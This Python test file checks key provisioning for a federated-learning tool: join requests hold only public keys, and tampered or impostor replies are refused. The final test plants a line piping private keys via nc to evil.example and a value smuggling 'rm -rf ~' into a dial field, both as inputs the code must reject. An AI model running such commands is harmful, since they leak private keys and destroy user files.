"""Keys made where they are used: join requests in, kits without anybody's private key out, the reply taken in."""

from __future__ import annotations

import json
import shutil
import stat
from pathlib import Path

import pytest
import yaml

from fedpriv.cli import main
from fedpriv.commands.provisioning import ProvisioningError, pki
from fedpriv.commands.provisioning.federation import load_federation
from fedpriv.commands.provisioning.join import accept_reply, init_org, load_join_request
from fedpriv.commands.provisioning.kits import provision
from fedpriv.kernel.errors import ConfigError
from fedpriv.kernel.node_config import load_node_config
from fedpriv.privacy.ledger import load_signing_key

from .conftest import federation_dict, snapshot, write_federation

ORGS = ("hospital-a", "hospital-b")
APP = "ab" * 32


@pytest.fixture
def sites(tmp_path: Path) -> dict[str, Path]:
    """Each organisation's own machine: its kit folder after `fedpriv org init`."""
    return {org: init_org(org, tmp_path / "sites" / org, "clinics-2026").request_path.parent for org in ORGS}


@pytest.fixture
def joined(tmp_path: Path, sites) -> tuple[Path, Path]:
    """The coordinator's federation file naming each organisation's join request, and the kits made from it."""
    raw = federation_dict()
    raw["app"] = {"fab_sha256": [APP]}
    for org in raw["organisations"]:
        org["join_request"] = str(sites[org["name"]] / "join-request.json")
    federation = write_federation(tmp_path / "FEDERATION.yaml", raw)
    kits = tmp_path / "kits"
    provision(load_federation(federation), kits)
    return federation, kits


def _private_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and b"PRIVATE KEY" in p.read_bytes())


def test_org_init_makes_private_keys_0600_and_a_request_with_public_keys_only(sites):
    for org, kit in sites.items():
        for name in ("node.key", "ledger.key"):
            assert stat.S_IMODE((kit / name).stat().st_mode) == 0o600
        request = json.loads((kit / "join-request.json").read_text())
        assert request["org"] == org and request["federation"] == "clinics-2026"
        assert "PRIVATE" not in (kit / "join-request.json").read_text()
        loaded = load_join_request(kit / "join-request.json", org, "clinics-2026")
        assert pki.same_public_key(loaded.node_key(), pki.load_private_key(kit / "node.key").public_key())
        assert pki.same_public_key(loaded.ledger_key(), load_signing_key(kit / "ledger.key").public_key())


def test_org_init_again_keeps_the_keys(sites):
    kit = sites["hospital-a"]
    before = (kit / "node.key").read_bytes(), (kit / "ledger.key").read_bytes()
    outcome = init_org("hospital-a", kit, "clinics-2026")
    assert outcome.created == [] and ((kit / "node.key").read_bytes(), (kit / "ledger.key").read_bytes()) == before


def test_provisioning_from_join_requests_writes_no_private_key_of_any_organisation(joined, sites):
    _, kits = joined
    # the coordinator's side: its own TLS key and the CA's key, nothing of an organisation
    assert _private_files(kits) == ["coordinator-ca/ca.key", "coordinator/superlink.key"]
    for org in ORGS:
        assert not (kits / org / "node.key").exists() and not (kits / org / "ledger.key").exists()
        enrolled = pki.load_public_key(kits / "coordinator" / "nodes" / f"{org}.pub")
        assert pki.same_public_key(enrolled, pki.load_private_key(sites[org] / "node.key").public_key())
        assert load_node_config(kits / org / "node.yaml").approved_apps == [APP]


def test_a_missing_join_request_is_refused_unless_keys_are_made_here_on_purpose(tmp_path: Path):
    federation = write_federation(tmp_path / "FEDERATION.yaml", federation_dict())
    with pytest.raises(ConfigError, match=r"organisations\[0\]\.join_request: required for hospital-a"):
        provision(load_federation(federation), tmp_path / "kits")
    assert not (tmp_path / "kits").exists()
    outcome = provision(load_federation(federation), tmp_path / "kits", make_org_keys=True)
    assert any("made here (--make-org-keys)" in note for note in outcome.notes)


@pytest.mark.parametrize(
    ("edit", "expect"),
    [
        (lambda r: r.update(org="hospital-b"), "org: the request names 'hospital-b', expected 'hospital-a'"),
        (lambda r: r.update(federation="banks-2027"), "federation: the request is for 'banks-2027'"),
        (lambda r: r.update(format="x"), "format: expected 'fedpriv-join-request/1'"),
        (lambda r: r.update(node_public_key="ssh-rsa AAAA"), "node_public_key: expected an OpenSSH public key"),
        (lambda r: r.update(ledger_public_key="nope"), "ledger_public_key: "),
        (lambda r: r.pop("node_public_key"), "node_public_key: expected a string"),
        (
            lambda r: r.update(node_private_key="-----BEGIN OPENSSH PRIVATE KEY-----\nabc"),
            "holds a private key; a join request carries public keys only",
        ),
    ],
    ids=["other-org", "other-federation", "format", "rsa-or-garbage", "ledger-garbage", "missing", "private-key"],
)
def test_a_bad_join_request_is_one_line_naming_the_file_and_field(tmp_path, sites, edit, expect):
    request = json.loads((sites["hospital-a"] / "join-request.json").read_text())
    edit(request)
    path = tmp_path / "request.json"
    path.write_text(json.dumps(request))
    raw = federation_dict()
    raw["organisations"][0]["join_request"] = str(path)
    raw["organisations"][1]["join_request"] = str(sites["hospital-b"] / "join-request.json")
    with pytest.raises(ProvisioningError) as info:
        provision(load_federation(write_federation(tmp_path / "F.yaml", raw)), tmp_path / "kits")
    assert str(info.value).startswith(f"{path}: ") and expect in str(info.value)
    assert len(str(info.value).splitlines()) == 1 and not (tmp_path / "kits").exists()


def test_another_key_for_an_enrolled_organisation_is_refused(tmp_path, joined):
    federation, kits = joined
    init_org("hospital-a", tmp_path / "impostor", "clinics-2026")
    raw = yaml.safe_load(federation.read_text())
    raw["organisations"][0]["join_request"] = str(tmp_path / "impostor" / "join-request.json")
    before = snapshot(kits)
    with pytest.raises(ProvisioningError, match="another SuperNode key than the one hospital-a is enrolled with"):
        provision(load_federation(write_federation(federation, raw)), kits)
    assert snapshot(kits) == before


def test_reprovisioning_never_changes_an_organisations_own_settings(joined):
    """The organisation lowered its target and tightened its cap; the federation file says 8: it stays 2."""
    federation, kits = joined
    node_yaml = kits / "hospital-a" / "node.yaml"
    node = yaml.safe_load(node_yaml.read_text())
    node["privacy"]["target_epsilon"] = 2
    node_yaml.write_text(yaml.safe_dump(node, sort_keys=False))
    own = node_yaml.read_bytes()
    outcome = provision(load_federation(federation), kits)
    assert node_yaml.read_bytes() == own and load_node_config(node_yaml).privacy.target_epsilon == 2
    proposal = kits / "hospital-a" / "node.yaml.new"
    assert load_node_config(proposal).privacy.target_epsilon == 8
    assert any(str(node_yaml) in note and "node.yaml.new" in note for note in outcome.notes)
    # an invalid value of its own is kept as well (its node refuses to start on it, with one line)
    node["privacy"]["target_epsilon"] = -1
    node_yaml.write_text(yaml.safe_dump(node, sort_keys=False))
    provision(load_federation(federation), kits, add_org="hospital-a")
    assert yaml.safe_load(node_yaml.read_text())["privacy"]["target_epsilon"] == -1


def test_the_organisation_takes_the_reply_in_after_checking_it(joined, sites, tmp_path):
    _, kits = joined
    kit = sites["hospital-a"]
    outcome = accept_reply(kits / "hospital-a", kit)
    assert {p.name for p in outcome.written} >= {"ca.crt", "node.yaml", "start-supernode.sh", "README.txt"}
    assert stat.S_IMODE((kit / "start-supernode.sh").stat().st_mode) == 0o755
    assert load_node_config(kit / "node.yaml").approved_apps == [APP]
    # its own edits survive a second reply; the proposal goes beside them
    (kit / "node.yaml").write_text((kit / "node.yaml").read_text().replace("target_epsilon: 8", "target_epsilon: 2"))
    again = accept_reply(kits / "hospital-a", kit)
    assert load_node_config(kit / "node.yaml").privacy.target_epsilon == 2 and (kit / "node.yaml.new").exists()
    assert any("kept (your own settings)" in note for note in again.notes)


def test_a_reply_that_is_not_for_this_kit_is_refused(joined, sites, tmp_path):
    _, kits = joined
    kit = sites["hospital-a"]
    with pytest.raises(ProvisioningError, match="org: the reply is for 'hospital-b', this kit is 'hospital-a''s"):
        accept_reply(kits / "hospital-b", kit)
    swapped = tmp_path / "swapped"  # hospital-a's reply, with hospital-b's keys in it
    shutil.copytree(kits / "hospital-a", swapped)
    for name in ("node.pub", "ledger.pub"):
        shutil.copy(kits / "hospital-b" / name, swapped / name)
    with pytest.raises(ProvisioningError, match="not the public half of .*node.key"):
        accept_reply(swapped, kit)
    accept_reply(kits / "hospital-a", kit)
    other = tmp_path / "other-kits"  # another CA (a man in the middle re-provisioning the organisation)
    raw = federation_dict()
    for org in raw["organisations"]:
        org["join_request"] = str(sites[org["name"]] / "join-request.json")
    provision(load_federation(write_federation(tmp_path / "OTHER.yaml", raw)), other)
    before = snapshot(kit)
    with pytest.raises(ProvisioningError, match="not the CA .* already trusts"):
        accept_reply(other / "hospital-a", kit)
    leaked = tmp_path / "leaked"
    provision(load_federation(write_federation(tmp_path / "TRY.yaml", federation_dict())), leaked, make_org_keys=True)
    with pytest.raises(ProvisioningError, match="holds a private key"):
        accept_reply(leaked / "hospital-a", kit)
    assert snapshot(kit) == before


def test_cli_org_init_accept_and_app_hash(tmp_path, capsys):
    kit = tmp_path / "site"
    assert main(["org", "init", "hospital-a", "--kit", str(kit), "--federation", "clinics-2026"]) == 0
    out = capsys.readouterr().out
    assert "node key fingerprint SHA256:" in out and "join-request.json" in out
    assert main(["org", "init", "coordinator", "--kit", str(tmp_path / "x")]) == 2
    assert "not coordinator" in capsys.readouterr().err
    assert main(["app", "hash", str(tmp_path / "nowhere")]) == 2
    assert "no such folder or file" in capsys.readouterr().err
    fab = tmp_path / "app.fab"
    fab.write_bytes(b"a FAB")
    assert main(["app", "hash", str(fab)]) == 0
    import hashlib

    assert capsys.readouterr().out.split()[0] == hashlib.sha256(b"a FAB").hexdigest()


def test_the_start_script_comes_from_fedpriv_not_from_the_reply(joined, sites, tmp_path):
    """A coordinator's shell script would run on the organisation's machine outside any app pin: never used."""
    _, kits = joined
    reply = tmp_path / "reply"
    shutil.copytree(kits / "hospital-a", reply)
    script = reply / "start-supernode.sh"
    script.write_text(script.read_text().replace("exec ", "cat node.key ledger.key | nc evil.example 80; exec ", 1))
    outcome = accept_reply(reply, sites["hospital-a"])
    written = (sites["hospital-a"] / "start-supernode.sh").read_text()
    assert "evil.example" not in written and "--superlink coordinator.example.org:9092" in written
    assert any("start-supernode.sh: not used" in note for note in outcome.notes)
    connection = json.loads((reply / "federation.json").read_text())
    connection["dial"] = "x.example.org:9092; rm -rf ~"
    (reply / "federation.json").write_text(json.dumps(connection))
    with pytest.raises(ProvisioningError, match="dial: expected HOST:PORT"):
        accept_reply(reply, sites["hospital-a"])
